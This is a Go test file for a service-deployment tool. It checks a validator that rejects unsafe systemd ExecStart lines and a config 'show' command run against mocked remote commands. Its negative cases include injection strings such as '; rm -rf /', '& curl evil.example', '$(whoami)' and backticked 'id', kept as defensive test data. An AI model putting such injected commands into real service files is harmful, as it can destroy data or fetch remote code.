package main

import (
	"errors"
	"strings"
	"testing"

	"github.com/fenceline/catsentry/internal/deploy"
)

func TestConfigManager_Structure(t *testing.T) {
	cm := &ConfigManager{
		Target:  "localhost",
		SSHUser: "testuser",
		SSHKey:  "/test/key",
	}

	if cm.Target != "localhost" {
		t.Errorf("Target = %s, want localhost", cm.Target)
	}
	if cm.SSHUser != "testuser" {
		t.Errorf("SSHUser = %s, want testuser", cm.SSHUser)
	}
	if cm.SSHKey != "/test/key" {
		t.Errorf("SSHKey = %s, want /test/key", cm.SSHKey)
	}
}

func TestValidateExecStart(t *testing.T) {
	tests := []struct {
		name    string
		line    string
		wantErr bool
	}{
		{
			name: "plain command line",
			line: "ExecStart=/usr/local/bin/catsentry -db /var/lib/catsentry/catsentry.db",
		},
		{
			name: "all daemon flags",
			line: "ExecStart=/usr/local/bin/catsentry -listen :8080 -db /tmp/cat.db -polygon /tmp/region.json -log-file /var/log/catsentry.log",
		},
		{
			name:    "missing prefix",
			line:    "/usr/local/bin/catsentry -db /tmp/cat.db",
			wantErr: true,
		},
		{
			name:    "shell pipe",
			line:    "ExecStart=/usr/local/bin/catsentry | tee /tmp/out",
			wantErr: true,
		},
		{
			name:    "command chaining",
			line:    "ExecStart=/usr/local/bin/catsentry; rm -rf /",
			wantErr: true,
		},
		{
			name:    "background operator",
			line:    "ExecStart=/usr/local/bin/catsentry & curl evil.example",
			wantErr: true,
		},
		{
			name:    "command substitution",
			line:    "ExecStart=/usr/local/bin/catsentry $(whoami)",
			wantErr: true,
		},
		{
			name:    "backticks",
			line:    "ExecStart=/usr/local/bin/catsentry `id`",
			wantErr: true,
		},
		{
			name:    "quotes",
			line:    `ExecStart=/usr/local/bin/catsentry -db "/tmp/cat.db"`,
			wantErr: true,
		},
	}

	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			err := validateExecStart(tt.line)
			if (err != nil) != tt.wantErr {
				t.Errorf("validateExecStart(%q) error = %v, wantErr %v", tt.line, err, tt.wantErr)
			}
		})
	}
}

func TestConfigManager_Show(t *testing.T) {
	exec, mock := localMockExec(func(cmd string) *deploy.MockCommandExecutor {
		if strings.Contains(cmd, "cat /etc/systemd/system/catsentry.service") {
			return &deploy.MockCommandExecutor{Output: []byte(serviceContent)}
		}
		return nil
	})

	cm := &ConfigManager{Target: "127.0.0.1", Exec: exec}
	if err := cm.Show(); err != nil {
		t.Fatalf("Show() error = %v", err)
	}

	history := mock.CommandHistory()
	for _, want := range []string{
		"cat /etc/systemd/system/catsentry.service",
		"ls -lh /var/lib/catsentry/",
		"systemctl status catsentry.service --no-pager",
		"journalctl -u catsentry.service -n 10 --no-pager",
	} {
		if !historyContains(history, want) {
			t.Errorf("Command history missing %q", want)
		}
	}
}

func TestConfigManager_Show_NotInstalled(t *testing.T) {
	exec, _ := localMockExec(func(cmd string) *deploy.MockCommandExecutor {
		if strings.Contains(cmd, "cat /etc/systemd/system/catsentry.service") {
			return &deploy.MockCommandExecutor{
				Output: []byte("cat: /etc/systemd/system/catsentry.service: No such file or directory\n"),
				Err:    errors.New("exit status 1"),
			}
		}
		return nil
	})

	cm := &ConfigManager{Target: "127.0.0.1", Exec: exec}
	err := cm.Show()
	if err == nil {
		t.Fatal("Show() should fail when the service file is missing")
	}
	if !strings.Contains(err.Error(), "failed to read service file") {
		t.Errorf("Show() error = %v, want service file failure", err)
	}
}
